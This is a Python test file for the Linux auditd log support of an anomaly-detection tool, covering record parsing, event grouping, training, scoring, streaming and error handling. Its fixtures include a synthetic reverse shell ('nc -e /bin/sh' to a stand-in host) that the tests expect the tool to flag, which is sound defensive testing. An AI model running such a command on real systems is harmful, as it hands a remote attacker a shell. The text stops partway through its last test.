"""Linux audit logs (``--format auditd``): records parsed (quoted, bare and hex-encoded values,
a user-space record's ``msg='...'``, ``node=`` prefixes, ENRICHED fields after ``\\x1d``), the
records of an event gathered into one row (ended by EOE, PROCTITLE, a record audit writes alone,
or later records; memory bounded), sniffed as ``auditd`` without taking key=value files, trained
and scored like any table (a web server's account running a reverse shell found), streamed and
served as raw lines with the same scores, and bad input refused with one clear line."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from sklearn.metrics import roc_auc_score

from hourglass.cli import app
from hourglass.ingest.auditd import AUDITD, AuditEvents, auditd_events, parse_auditd
from hourglass.ingest.formats import sniff_format
from hourglass.ingest.tables import ReadStats
from tests._cli import one_line_error, runner

FAST = ["--epochs", "20", "--hidden", "16,8", "--batch-size", "64", "--seed", "0"]
GS = "\x1d"  # the separator auditd's ENRICHED format writes before its translations
SUBJ = "unconfined_u:unconfined_r:unconfined_t:s0-s0:c0.c1023"

# An SSH login as auditd writes it through PAM (values our own, record layout audit's).
LOGIN = [
    "type=USER_AUTH msg=audit(1700000000.101:310): pid=2301 uid=0 auid=4294967295 ses=4294967295 "
    "subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=PAM:authentication grantors=pam_unix "
    'acct="alice" exe="/usr/sbin/sshd" hostname=10.0.0.9 addr=10.0.0.9 terminal=ssh res=success\'',
    "type=USER_LOGIN msg=audit(1700000000.180:316): pid=2301 uid=0 auid=1000 ses=7 "
    "subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login id=1000 exe=\"/usr/sbin/sshd\" "
    "hostname=10.0.0.9 addr=10.0.0.9 terminal=/dev/pts/1 res=success'",
]
# One execve: its SYSCALL, EXECVE (an argument with a space, so hex), CWD, two PATHs (the
# program and its loader), PROCTITLE (hex: the arguments are NUL-separated) and EOE.
EXECVE = [
    "type=SYSCALL msg=audit(1700000060.250:402): arch=c000003e syscall=59 success=yes exit=0 "
    "a0=55f1c2a0b3c0 a1=55f1c2a0b470 a2=55f1c2a0b4a0 a3=8 items=2 ppid=2410 pid=2455 auid=1000 "
    "uid=1000 gid=1000 euid=1000 suid=1000 fsuid=1000 egid=1000 sgid=1000 fsgid=1000 tty=pts1 ses=7 "
    f'comm="cat" exe="/usr/bin/cat" subj={SUBJ} key="exec"',
    "type=EXECVE msg=audit(1700000060.250:402): argc=2 a0=\"cat\" a1=2F746D702F6D79206E6F7465732E747874",
    'type=CWD msg=audit(1700000060.250:402): cwd="/home/alice"',
    'type=PATH msg=audit(1700000060.250:402): item=0 name="/usr/bin/cat" inode=1049110 dev=fd:00 '
    "mode=0100755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:bin_t:s0 nametype=NORMAL cap_fp=0 "
    "cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    'type=PATH msg=audit(1700000060.250:402): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1057001 '
    "dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 obj=system_u:object_r:ld_so_t:s0 nametype=NORMAL "
    "cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0",
    "type=PROCTITLE msg=audit(1700000060.250:402): proctitle=636174002F746D702F6D79206E6F7465732E747874",
    "type=EOE msg=audit(1700000060.250:402):",
]
# A denied openat in the ENRICHED format, from a host that names itself (node=).
ENRICHED = ("node=web-01 type=SYSCALL msg=audit(1700000070.002:410): arch=c000003e syscall=257 "
            "success=no exit=-13 a0=ffffff9c a1=7ffd5e3c a2=0 a3=0 items=1 ppid=2410 pid=2460 auid=1000 "
            f'uid=1000 gid=1000 comm="cat" exe="/usr/bin/cat" key="access"{GS}ARCH=x86_64 '
            'SYSCALL=openat AUID="alice" UID="alice" GID="alice"')
GARBAGE = "Nov 14 22:13:20 web-01 sshd[2301]: Accepted publickey for alice from 10.0.0.9"


def test_records_fields_as_audit_writes_them() -> None:
    row = parse_auditd(EXECVE[0])
    assert row is not None
    assert (row["type"], row["serial"], row["timestamp"], row["syscall"], row["success"]) == (
        "SYSCALL", "402", 1700000060.25, "59", "yes")
    assert (row["comm"], row["exe"], row["key"], row["subj"], row["a0"]) == (
        "cat", "/usr/bin/cat", "exec", SUBJ, "55f1c2a0b3c0")  # register values stay as written
    auth = parse_auditd(LOGIN[0])
    assert auth is not None and "msg" not in auth  # the pairs inside msg='...' are columns
    assert (auth["op"], auth["acct"], auth["exe"], auth["addr"], auth["res"], auth["uid"]) == (
        "PAM:authentication", "alice", "/usr/sbin/sshd", "10.0.0.9", "success", "0")
    path = parse_auditd('type=PATH msg=audit(1700000001.5:9): item=0 name=(null) inode=3 nametype=UNKNOWN')
    assert path is not None and path["name"] is None  # (null) is missing


def test_hex_encoded_values_are_decoded() -> None:
    row = parse_auditd(EXECVE[-2])
    assert row is not None and row["proctitle"] == "cat /tmp/my notes.txt"  # NULs as spaces
    row = parse_auditd(EXECVE[1])
    assert row is not None and (row["a0"], row["a1"]) == ("cat", "/tmp/my notes.txt")
    bad = parse_auditd("type=PROCTITLE msg=audit(1700000001.5:9): proctitle=6C73FF2D6C")
    assert bad is not None and bad["proctitle"] == "ls\ufffd-l"  # a byte that is no UTF-8: replaced
    # quoted text that looks like hex is text; a bare value in a field audit never encodes stays
    row = parse_auditd('type=SYSCALL msg=audit(1700000001.5:9): comm="CAFE" exit=10 a1=DEADBEEF')
    assert row is not None and (row["comm"], row["exit"], row["a1"]) == ("CAFE", "10", "DEADBEEF")
    long_arg = parse_auditd("type=EXECVE msg=audit(1700000001.5:9): argc=2 a0=\"echo\" a1_len=10 "
                            'a1[0]="hello" a1[1]=20776F726C64')
    assert long_arg is not None and (long_arg["a1[0]"], long_arg["a1[1]"]) == ("hello", " world")
    [row] = auditd_events(["type=SYSCALL msg=audit(1700000001.5:9): syscall=59",
                           "type=EXECVE msg=audit(1700000001.5:9): argc=2 a0=\"echo\" a1_len=10 "
                           'a1[0]="hello" a1[1]=20776F726C64',
                           "type=EOE msg=audit(1700000001.5:9):"])
    assert (row["argc"], row["cmdline"]) == (2, "echo hello world")


def test_enriched_fields_keep_their_upper_case_names_and_node() -> None:
    row = parse_auditd(ENRICHED)
    assert row is not None
    assert (row["node"], row["uid"], row["UID"], row["syscall"], row["SYSCALL"], row["ARCH"]) == (
        "web-01", "1000", "alice", "257", "openat", "x86_64")
    assert row["key"] == "access" and row["exit"] == "-13"  # the GS ended the raw fields


@pytest.mark.parametrize("line", [
    "", "garbage", GARBAGE, "type=SYSCALL msg=audit(17000", "type=SYSCALL msg=audit(abc:1): x=1",
    '{"type": "SYSCALL", "msg": "audit(1700000000.1:1)"}', "date=2023-11-14 srcip=10.0.0.5 dstip=10.0.0.6",
])
def test_lines_that_are_no_audit_record(line: str) -> None:
    assert parse_auditd(line) is None
    assert parse_auditd(line.encode() + b"\xff\xfe") is None


def test_syslog_and_kernel_forms_are_read() -> None:
    row = parse_auditd("Nov 14 22:13:20 web-01 audisp-syslog: type=USER_CMD msg=audit(1700000001.5:9): "
                       "pid=1 uid=1000 auid=1000 ses=7 msg='cwd=\"/root\" cmd=6C73202D6C61 terminal=pts/1 "
                       "res=success'")
    assert row is not None and (row["type"], row["cmd"], row["cwd"]) == ("USER_CMD", "ls -la", "/root")
    dmesg = parse_auditd("audit: type=1400 audit(1700000001.500:9): apparmor=\"DENIED\" operation=\"open\"")
    assert dmesg is not None and (dmesg["type"], dmesg["apparmor"]) == ("1400", "DENIED")


# -- events -----------------------------------------------------------------------------------
def test_an_event_is_one_row_of_its_records() -> None:
    login_auth, login, execve, denied = auditd_events([*LOGIN, GARBAGE, *EXECVE, ENRICHED])
    assert (login_auth["type"], login_auth["records"], login_auth["path_count"]) == (
        "USER_AUTH", "USER_AUTH", 0)
    assert (login["type"], login["op"], login["terminal"], login["auid"]) == (
        "USER_LOGIN", "login", "/dev/pts/1", "1000")
    assert execve["records"] == "SYSCALL EXECVE CWD PATH PROCTITLE"  # EOE left out, PATH once
    assert (execve["type"], execve["serial"], execve["exe"], execve["path_count"], execve["path_name"]) == (
        "SYSCALL", "402", "/usr/bin/cat", 2, "/usr/bin/cat")
    assert (execve["cwd"], execve["argc"], execve["cmdline"]) == ("/home/alice", 2, "cat /tmp/my notes.txt")
    assert "proctitle" not in execve  # the same command line: cmdline holds it once
    assert not any(k in execve for k in ("item", "inode", "nametype", "a1[0]"))  # other records: summarised
    assert (denied["node"], denied["SYSCALL"], denied["records"]) == ("web-01", "openat", "SYSCALL")
    opening = [ENRICHED.split(GS)[0].removeprefix("node=web-01 "),
               *(line.replace("1700000060.250:402", "1700000070.002:410") for line in EXECVE[-2:])]
    [opened] = auditd_events(opening)
    assert opened["cmdline"] == "cat /tmp/my notes.txt"  # no EXECVE: the process's proctitle


def test_a_long_argument_list_over_several_execve_records_is_whole() -> None:
    head = "type={} msg=audit(1700000000.100:10): "
    lines = [head.format("SYSCALL") + 'syscall=59 success=yes exe="/usr/bin/gcc" comm="gcc"',
             head.format("EXECVE") + 'argc=4 a0="gcc" a1="-c"', head.format("EXECVE") + 'a2="x.c" a3="-O2"',
             head.format("PROCTITLE") + "proctitle=676363", head.format("EOE")]
    [row] = auditd_events(lines)
    assert (row["records"], row["argc"], row["cmdline"]) == ("SYSCALL EXECVE PROCTITLE", 4, "gcc -c x.c -O2")
    # one argument too long for a record: its pieces (a1[0], a1[1] ...) in the next records too
    lines[1:3] = [head.format("EXECVE") + 'argc=3 a0="echo" a1_len=12 a1[0]=616263',
                  head.format("EXECVE") + 'a1[1]="def"', head.format("EXECVE") + 'a1[2]="ghijkl" a2="end"']
    [row] = auditd_events(lines)
    assert (row["argc"], row["cmdline"]) == (3, "echo abcdefghijkl end")


def test_interleaved_events_and_nodes_are_told_apart() -> None:
    a, b = EXECVE[:3], [line.replace(":402)", ":403)").replace("cat", "vim") for line in EXECVE]
    other_host = ["node=db-01 " + line for line in EXECVE]  # the same serial on another host
    lines = [a[0], b[0], other_host[0], a[1], b[1], *other_host[1:], a[2], *b[2:], *EXECVE[3:]]
    rows = auditd_events(lines)
    assert [(r.get("node"), r["serial"], r["comm"]) for r in rows] == [
        ("db-01", "402", "cat"), (None, "403", "vim"), (None, "402", "cat")]
    assert {r["records"] for r in rows} == {"SYSCALL EXECVE CWD PATH PROCTITLE"}


def test_events_end_by_eoe_proctitle_a_lone_record_or_later_records() -> None:
    events = AuditEvents(linger=4, seconds=2.0)
    assert events.add(parse_auditd(EXECVE[0]), 1) == []
    assert events.add(parse_auditd(EXECVE[2]), 2) == []
    [(line, row)] = events.add(parse_auditd(EXECVE[5]), 3)  # PROCTITLE: the last record
    assert (line, row["records"]) == (1, "SYSCALL CWD PROCTITLE")
    assert events.add(parse_auditd(EXECVE[6]), 4) == []  # its EOE: nothing more
    [(line, row)] = events.add(parse_auditd(LOGIN[1]), 5)  # USER_LOGIN: an event alone
    assert (line, row["type"]) == (5, "USER_LOGIN")
    # a SYSCALL without an end: complete once four records of other events came after it
    events.add(parse_auditd("type=SYSCALL msg=audit(1700000100.0:500): syscall=2"), 6)
    done = [events.add(parse_auditd(f"type=SYSCALL msg=audit(1700000100.0:{501 + i}): syscall=2"), 7 + i)
            for i in range(4)]
    assert done[:3] == [[], [], []] and [r["serial"] for _, r in done[3]] == ["500"]
    # ... or once a record more than two seconds newer came
    [(_, row), *rest] = events.add(parse_auditd("type=USER_END msg=audit(1700000103.0:600): pid=1"), 11)
    assert [row["serial"], *(r["serial"] for _, r in rest)] == ["600", "501", "502", "503", "504"]
    assert events.close() == []


@pytest.mark.parametrize(("kind", "alone"), [
    ("USER", True), ("1005", True), ("USER_LOGIN", True), ("1112", True), ("MAC_UNLBL_ALLOW", True),
    ("1406", True), ("MAC_CIPSOV4_ADD", True), ("MAC_IPSEC_EVENT", True), ("1415", True),
    ("MAC_CALIPSO_DEL", True), ("1419", True), ("KERNEL", True), ("2000", True),
    ("ANOM_LOGIN_FAILURES", True), ("2100", True), ("VIRT_CONTROL", True),
    ("LOGIN", False), ("1006", False), ("MAC_STATUS", False), ("1404", False), ("1420", False),
    ("ANOM_ABEND", False), ("1701", False), ("INTEGRITY_DATA", False), ("1800", False),
    ("2001", False), ("SYSCALL", False)])
def test_records_written_alone_as_audit_is_last_record_says(kind: str, alone: bool) -> None:
    done = AuditEvents().add(parse_auditd(f"type={kind} msg=audit(1700000000.0:7): pid=1"), 1)
    assert [r["type"] for _, r in done] == ([kind] if alone else [])


def test_open_events_are_bounded() -> None:
    events = AuditEvents(linger=10**9, seconds=10**9, max_open=8)
    rows = []
    for i in range(500):
        rows += events.add(parse_auditd(f"type=SYSCALL msg=audit(1700000000.0:{i}): syscall=2"), i + 1)
        assert len(events._open) <= 8
    rows += events.close()
    assert sorted(int(r["serial"]) for _, r in rows) == list(range(500))


def _exec_event(when: str, serial: int, node: str | None = None) -> list[str]:
    """The lines of one execve event at audit time ``when`` (on host ``node``)."""
    where = f"node={node} " if node else ""
    return [f"{where}{line.split(' ', 1)[0]} msg=audit({when}:{serial}): {line.split('): ', 1)[1]}"
            if "): " in line else f"{where}type=EOE msg=audit({when}:{serial}):" for line in EXECVE]


def test_hosts_with_clocks_apart_split_no_event() -> None:
    # node b's clock 3 s (or 5 min) ahead of node a's, their records interleaved
    a, b = _exec_event("1700000000.100", 10, "a"), _exec_event("1700000003.200", 77, "b")
    rows = auditd_events([a[0], b[0], *a[1:], *b[1:]])
    assert [(r["node"], r["serial"], r["records"]) for r in rows] == [
        ("a", "10", "SYSCALL EXECVE CWD PATH PROCTITLE"), ("b", "77", "SYSCALL EXECVE CWD PATH PROCTITLE")]
    rows = auditd_events(_exec_event("1700000300.0", 1, "b") + _exec_event("1700000000.5", 2, "a")
                         + _exec_event("1700000000.6", 3, "a"))
    assert [r["records"] for r in rows] == ["SYSCALL EXECVE CWD PATH PROCTITLE"] * 3


def test_a_clock_stepped_back_splits_no_event() -> None:
    # an NTP step back of 10 s after one event: the later events are still whole
    lines = (_exec_event("1700000010.000", 1) + _exec_event("1700000000.500", 2)
             + _exec_event("1700000000.600", 3))
    rows = auditd_events(lines)
    assert [(r["serial"], r["type"], r["path_count"], r["cmdline"]) for r in rows] == [
        (s, "SYSCALL", 2, "cat /tmp/my notes.txt") for s in ("1", "2", "3")]


def test_one_far_future_record_splits_no_later_event() -> None:
    bad = "type=SYSCALL msg=audit(1900000000.000:9): syscall=2 comm=\"odd\""
    later = [line for i in range(30) for line in _exec_event(f"{1700000000 + i}.5", 10 + i)]
    rows = auditd_events([bad, *later])  # (more than 64 records after it: it is complete)
    assert [(r["serial"], r["records"]) for r in rows] == [
        *((str(10 + i), "SYSCALL EXECVE CWD PATH PROCTITLE") for i in range(9)), ("9", "SYSCALL"),
        *((str(10 + i), "SYSCALL EXECVE CWD PATH PROCTITLE") for i in range(9, 30))]


def test_late_records_of_a_completed_event_are_dropped(caplog: pytest.LogCaptureFixture) -> None:
    event = _exec_event("1700000000.100", 10)
    events = AuditEvents(linger=3)
    rows = events.add(parse_auditd(event[0]), 1)
    for i, line in enumerate(LOGIN * 2):  # four records of other events: the SYSCALL's event done
        rows += events.add(parse_auditd(line.replace(":31", f":{50 + i}")), 2 + i)
    for i, line in enumerate(event[1:]):  # its other records come late: none is an event
        rows += events.add(parse_auditd(line), 6 + i)
    with caplog.at_level("INFO", logger="hourglass.ingest.auditd"):
        rows += events.close()
    assert [r["type"] for _, r in rows] == ["USER_AUTH", "USER_LOGIN", "USER_AUTH", "SYSCALL", "USER_LOGIN"]
    assert events.late == 5 and "5 audit record(s) came after their event was completed" in caplog.text
    # ... as late as a newer record of the same host (more than two seconds) completed it
    rows = auditd_events([event[0], "type=USER_END msg=audit(1700000002.2:11): pid=1", *event[1:]])
    assert [(r["serial"], r["records"]) for r in rows] == [("11", "USER_END"), ("10", "SYSCALL")]
    # only the last `remember` events completed so are remembered
    events = AuditEvents(linger=1, remember=2)
    for i in range(4):
        events.add(parse_auditd(f"type=SYSCALL msg=audit(1700000000.0:{i}): syscall=2"), i)
    assert len(events._closed) == 2


def test_read_in_chunks_is_read_whole(tmp_path: Path) -> None:
    rng = np.random.default_rng(1)
    lines = [line for i in range(300) for line in _event(rng, i)]
    lines[5:5] = [GARBAGE, "", "\x01\udcff junk"]
    path = tmp_path / "audit.log"
    path.write_bytes("\n".join(lines).encode("utf-8", "surrogateescape") + b"\n")
    whole = AUDITD.read(path, on_bad_rows="skip")
    stats = ReadStats()
    parts = pd.concat(list(AUDITD.iter_chunks(path, on_bad_rows="skip", chunk_bytes=700, stats=stats)),
                      ignore_index=True)
    assert len(whole) == 300 and stats.rows == 300
    pd.testing.assert_frame_equal(parts[whole.columns], whole, check_dtype=False)
    assert whole["path_count"].dtype.kind == "i" and whole["uid"].map(type).eq(str).all()  # ids as codes
    full = pd.DataFrame(auditd_events(lines))  # every field of every record parsed: the same rows
    for col in ("serial", "records", "exe", "path_name", "cwd", "cmdline", "argc", "path_count"):
        assert whole[col].astype(str).tolist() == full[col].astype(str).tolist(), col


def test_sniffing_takes_audit_logs_and_leaves_key_value_lines_alone(tmp_path: Path) -> None:
    cases = {"audit.log": "\n".join([*LOGIN, *EXECVE]) + "\n", "enriched.log": ENRICHED + "\n",
             "fw.log": 'date=2023-11-14 time=22:13:20 srcip=10.0.0.5 dstip=10.0.0.6 action="deny"\n',
             "t.csv": "type,msg\nSYSCALL,audit\n"}
    found = {}
    for name, text in cases.items():
        (tmp_path / name).write_text(text)
        found[name] = sniff_format(tmp_path / name).name
    assert found == {"audit.log": "auditd", "enriched.log": "auditd", "fw.log": "kv", "t.csv": "csv"}


# -- end to end: generated audit logs of a small web server ----------------------------------
USERS = {"alice": 1000, "bob": 1001, "deploy": 1002}
PROGRAMS = ["/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep", "/usr/bin/git", "/usr/bin/python3",
            "/usr/bin/systemctl"]


def _hex(text: str) -> str:
    return text.encode().hex().upper()


def _event(rng: np.random.Generator, i: int, kind: str = "normal") -> list[str]:
    """The records of one event; ``shell``: the web server's account (uid 33, no login) running
    netcat from /tmp to a host outside, a reverse shell."""
    head = f"msg=audit({1_700_000_000 + 3 * i}.{rng.integers(1000):03d}:{1000 + i})"
    if kind == "normal" and rng.random() < 0.25:  # a login, one record
        user = str(rng.choice(list(USERS)))
        addr = f"10.0.0.{rng.integers(2, 40)}"
        return [f"type=USER_LOGIN {head}: pid={rng.integers(2000, 9000)} uid=0 auid={USERS[user]} "
                f"ses={rng.integers(1, 50)} subj=system_u:system_r:sshd_t:s0-s0:c0.c1023 msg='op=login "
                f'id={USERS[user]} exe="/usr/sbin/sshd" hostname={addr} addr={addr} terminal=ssh '
                "res=success'"]
    if kind == "shell":
        uid, auid, exe, args, cwd = 33, 4294967295, "/usr/bin/nc.openbsd", \
            ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"], "/tmp"
    else:
        user = str(rng.choice(list(USERS)))
        uid = auid = USERS[user]
        exe = str(rng.choice(PROGRAMS))
        args, cwd = [exe.rsplit("/", 1)[1], f"file{rng.integers(9)}.txt"], f"/home/{user}"
    pid = rng.integers(2000, 30000)
    arg_fields = " ".join(f'a{j}="{a}"' for j, a in enumerate(args))
    return [
        f"type=SYSCALL {head}: arch=c000003e syscall=59 success=yes exit=0 a0={rng.integers(1 << 40):x} "
        f"a1={rng.integers(1 << 40):x} a2={rng.integers(1 << 40):x} a3=8 items=2 ppid={pid - 1} pid={pid} "
        f"auid={auid} uid={uid} gid={uid} euid={uid} suid={uid} fsuid={uid} egid={uid} sgid={uid} "
        f'fsgid={uid} tty={"(none)" if kind == "shell" else "pts0"} ses={rng.integers(1, 50)} '
        f'comm="{args[0]}" exe="{exe}" subj={SUBJ} key="exec"',
        f"type=EXECVE {head}: argc={len(args)} {arg_fields}",
        f'type=CWD {head}: cwd="{cwd}"',
        f'type=PATH {head}: item=0 name="{exe}" inode={rng.integers(10**6)} dev=fd:00 mode=0100755 ouid=0 '
        "ogid=0 rdev=00:00 nametype=NORMAL",
        f'type=PATH {head}: item=1 name="/lib64/ld-linux-x86-64.so.2" inode=1057001 dev=fd:00 '
        "mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL",
        f"type=PROCTITLE {head}: proctitle={_hex(chr(0).join(args))}",
        f"type=EOE {head}:",
    ]


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    d = tmp_path_factory.mktemp("auditd")
    rng = np.random.default_rng(0)
    (d / "audit.log").write_text("".join(line + "\n" for i in range(1500) for line in _event(rng, i)))
    kinds = np.array(["normal"] * 200, dtype=object)
    kinds[7::25] = "shell"
    (d / "test.log").write_text("".join(line + "\n" for i, k in enumerate(kinds)
                                        for line in _event(rng, 2000 + i, k)))
    model = d / "model"
    res = runner.invoke(app, ["train", str(d / "audit.log"), *FAST, "-o", str(model)])
    assert res.exit_code == 0, res.output
    assert "event time from column 'timestamp'" in res.stderr, res.stderr
    return {"dir": d, "model": model, "kinds": kinds}


def test_read_with_its_roles(kit: dict[str, Any]) -> None:
    res = runner.invoke(app, ["inspect", str(kit["dir"] / "audit.log")])
    assert res.exit_code == 0, res.output
    table = {line.split("│")[1].strip(): line for line in res.stdout.splitlines() if line.startswith("│")}
    for col in ("serial", "pid", "ppid", "ses", "a0", "hostname"):
        assert "dropped" in table[col], (col, table[col])
    for col in ("uid", "auid", "syscall", "exe", "comm", "records", "type", "res"):
        assert "categorical" in table[col], (col, table[col])
    assert "numeric" in table["path_count"] and "ip" in table["addr"]
    assert "timestamp column 'timestamp'" in res.stdout


def test_finds_the_reverse_shell(kit: dict[str, Any]) -> None:
    out = kit["dir"] / "scores.csv"
    res = runner.invoke(app, ["score", str(kit["model"]), str(kit["dir"] / "test.log"), "-o", str(out)])
    assert res.exit_code == 0, res.output
    scores = pd.read_csv(out)["score"].to_numpy()
    assert len(scores) == len(kit["kinds"])  # one row per event
    shell = kit["kinds"] == "shell"
    assert roc_auc_score(shell, scores) > 0.95
    assert np.median(scores[shell]) > np.percentile(scores[~shell], 95)


def test_events_carry_only_their_own_fields(kit: dict[str, Any], tmp_path: Path) -> None:
    execs = [line for line in (kit["dir"] / "test.log").read_text().splitlines()
             if "USER_LOGIN" not in line]  # no login: no op, acct, addr, terminal, res at all
    data = tmp_path / "execs.log"
    data.write_text("\n".join(execs) + "\n")
    res = runner.invoke(app, ["score", str(kit["model"]), str(data), "-o", str(tmp_path / "s.csv")])
    assert res.exit_code == 0, res.output
    res = runner.invoke(app, ["stream", str(kit["model"]), "--all", "--keep", "acct"], input=data.read_text())
    assert res.exit_code == 0 and json.loads(res.stdout.splitlines()[0])["acct"] is None, res.output


def test_stream_reads_the_lines_as_score_reads_the_file(kit: dict[str, Any]) -> None:
    out = kit["dir"] / "all.csv"
    res = runner.invoke(app, ["score", str(kit["model"]), str(kit["dir"] / "test.log"), "-o", str(out)])
    assert res.exit_code == 0, res.output
    text = (kit["dir"] / "test.log").read_text()
    res = runner.invoke(app, ["stream", str(kit["model"]), "--all", "--batch", "7"], input=text)
    assert res.exit_code == 0, res.output
    streamed = [json.loads(line) for line in res.stdout.splitlines()]
    np.testing.assert_allclose([a["score"] for a in streamed], pd.read_csv(out)["score"], rtol=1e-4)
    res = runner.invoke(app, ["stream", str(kit["model"]), "--alert-format", "ecs", "--keep", "exe"],
                        input=text)
    assert res.exit_code == 0, res.output
    docs = [json.loads(line) for line in res.stdout.splitlines()]
    assert docs and all(d["@timestamp"].startswith(("2023-11-14T", "2023-11-15T")) for d in docs)
    assert docs[0]["hourglass"]["timestamp_from"] == "data"
    # audit's own fields in their ECS places (as Auditbeat maps them): 'exe' the executable,
    # 'node' the machine that logged the event; a login's 'hostname' is its remote client
    assert "/usr/bin/nc.openbsd" in {d["process"]["executable"] for d in docs}
    from hourglass.serve.ecs import ecs_named, ecs_target

    assert ecs_target("hostname", "auditd") == "source.domain" and ecs_target("hostname") == "host.name"
    assert ecs_named({"node": "web1", "uid": "33", "UID": "www-data", "pid": "7"}, "auditd") == {
        "node": "web1", "uid": "33", "UID": "www-data"}


def test_stream_groups_the_flagged_events(kit: dict[str, Any]) -> None:
    text = (kit["dir"] / "test.log").read_text()
    text += "type=SYSCALL msg=audit(1700009999.000:9999): syscall=59 uid=33 auid=4294967295\n"  # no end
    res = runner.invoke(app, ["stream", str(kit["model"]), "--group-by", "exe", "--group-window", "100000"],
                        input=text)
    assert res.exit_code == 0, res.output
    groups = {g["exe"]: g for g in map(json.loads, res.stdout.splitlines())}
    assert groups["/usr/bin/nc.openbsd"]["count"] == 8, groups  # the eight reverse shells, one group
    assert "streamed 201 rows" in res.stderr, res.stderr  # the last event, open at the end, too


def test_per_user_buckets_stream_as_they_score(kit: dict[str, Any], tmp_path: Path) -> None:
    model = tmp_path / "users"
    # no --timestamp-col: the buckets are cut on the format's own event time ('timestamp')
    res = runner.invoke(app, ["train", str(kit["dir"] / "audit.log"), "--entity-col", "auid",
                              "--bucket", "10min", *FAST, "-o", str(model)])
    assert res.exit_code == 0, res.output
    saved = json.loads((model / "config.json").read_text())
    assert '"timestamp_col": "timestamp"' in json.dumps(saved), saved.keys()
    out = tmp_path / "buckets.csv"
    res = runner.invoke(app, ["score", str(model), str(kit["dir"] / "test.log"), "-o", str(out)])
    assert res.exit_code == 0, res.output
    scored = pd.read_csv(out, dtype={"entity": str})
    res = runner.invoke(app, ["stream", str(model), "--all"], input=(kit["dir"] / "test.log").read_text())
    assert res.exit_code == 0, res.output
    streamed = pd.DataFrame([json.loads(line) for line in res.stdout.splitlines()])
    key = ["entity", "bucket_start"]
    both = scored.merge(streamed, on=key, suffixes=("", "_stream"))
    assert len(both) == len(scored) == len(streamed)
    np.testing.assert_allclose(both["score_stream"], both["score"], rtol=1e-4)
    assert "4294967295" in set(scored["entity"])  # the web server's account (no login uid)


def test_stream_writes_an_event_once_its_last_record_came() -> None:
    from hourglass.cli.stream import _INPUT_END, _parse

    events = AUDITD.events()
    bad: list[int] = []
    batch = [(i + 1, line.encode()) for i, line in enumerate(EXECVE[:-2])]
    assert _parse(batch, "<stdin>", "error", bad, AUDITD, events) == ([], [], None)  # no end yet
    rows, lines, problem = _parse([(6, EXECVE[-2].encode()), (7, EXECVE[-1].encode()),
                                   (8, LOGIN[1].encode()), (9, ENRICHED.encode())], "<stdin>", "error", bad,
                                  AUDITD, events)
    assert problem is None and lines == [1, 8] and [r["records"] for r in rows] == [
        "SYSCALL EXECVE CWD PATH PROCTITLE", "USER_LOGIN"]
    rows, lines, problem = _parse([(0, _INPUT_END)], "<stdin>", "error", bad, AUDITD, events)
    assert lines == [9] and rows[0]["SYSCALL"] == "openat"  # open at the end of input: written then
    # a bad line stops the stream: the events of the records before it are written first
    rows, lines, problem = _parse([(1, EXECVE[0].encode()), (2, b"junk")], "<stdin>", "error", bad,
                                  AUDITD, events)
    assert lines == [1] and problem is not None and "line 2: not a Linux audit record" in str(problem)


def test_service_takes_the_lines_of_an_auditd_model(kit: dict[str, Any]) -> None:
    from fastapi.testclient import TestClient

    from hourglass.serve import create_app

    key = "k" * 32
    client = TestClient(create_app(kit["model"], api_key=key))
    health = client.get("/health").json()
    assert health["format"] == "auditd" and "each event gathered into one row" in health["request"]
    lines = (kit["dir"] / "test.log").read_text().splitlines()[:120]
    answer = client.post("/score", json={"lines": lines}, headers={"X-API-Key": key})
    assert answer.status_code == 200, answer.text
    res = runner.invoke(app, ["stream", str(kit["model"]), "--all"], input="\n".join(lines) + "\n")
    streamed = [json.loads(x)["score"] for x in res.stdout.splitlines()]
    assert len(streamed) == len(answer.json()["scores"]) < len(lines)
    np.testing.assert_allclose(answer.json()["scores"], streamed, rtol=1e-4)
    bad = client.post("/score", json={"lines": [lines[0], "junk"]}, headers={"X-API-Key": key})
    assert bad.status_code == 422 and bad.json()["detail"].startswith("line 2: not a Linux audit record")


# -- bad input: one clear line, exit code 2 -----------------------------------------------------
def test_a_line_that_is_no_audit_record(kit: dict[str, Any], tmp_path: Path) -> None:
    lines = (kit["dir"] / "test.log").read_text().splitlines()[:20]
    res = runner.invoke(app, ["stream", str(kit["model"])],
                        input="\n".join([*lines[:3], "not a log", *lines[3:]]))
    assert res.exit_code == 2 and "line 4: not a Linux audit record" in res.stderr, res.output
    assert "Traceback" not in res.output
    res = runner.invoke(app, ["stream", str(kit["model"]), "--on-bad-rows", "skip", "--all"],
                        input="\n".join([*lines[:3], "not a log", *lines[3:]]))
    want = len(auditd_events(lines))
    assert res.exit_code == 0 and len(res.stdout.splitlines()) == want, res.output
    assert "skipped 1 malformed line(s) (lines 4)" in res.stderr, res.stderr
    data = tmp_path / "audit.log"
    data.write_bytes("\n".join([*lines[:3], GARBAGE, *lines[3:]]).encode() + b"\n\xff\xfe\x01junk\n")
    one_line_error(["train", str(data), "--format", "auditd", "-o", str(tmp_path / "m")],
                   "line 4: not a Linux audit record", tmp_path / "m")
    res = runner.invoke(app, ["train", str(data), "--on-bad-rows", "skip", *FAST, "-o", str(tmp_path / "m")])
    assert res.exit_code == 0 and "Traceback" not in res.output, res.output


@pytest.mark.parametrize(("text", "match"), [
    ("", "empty file"), ("\n\n\n", "no data rows"),
    ("garbage line one\nmore garbage\n", "line 1: not a Linux audit record"),
    ("date=2023-11-14 srcip=10.0.0.5 dstip=10.0.0.6\n", "line 1: not a Linux audit record"),
])
def test_bad_files_given_as_auditd(tmp_path: Path, text: str, match: str) -> None:
    data = tmp_path / "audit.log"
    data.write_text(text)
    one_line_error(["train", str(data), "--format", "auditd", "-o", str(tmp_path / "m")], match,
                   tmp_path / "m")


def test_all_garbage_skipped_is_no_data(tmp_path: Path) -> None:
    data = tmp_path / "audit.log"
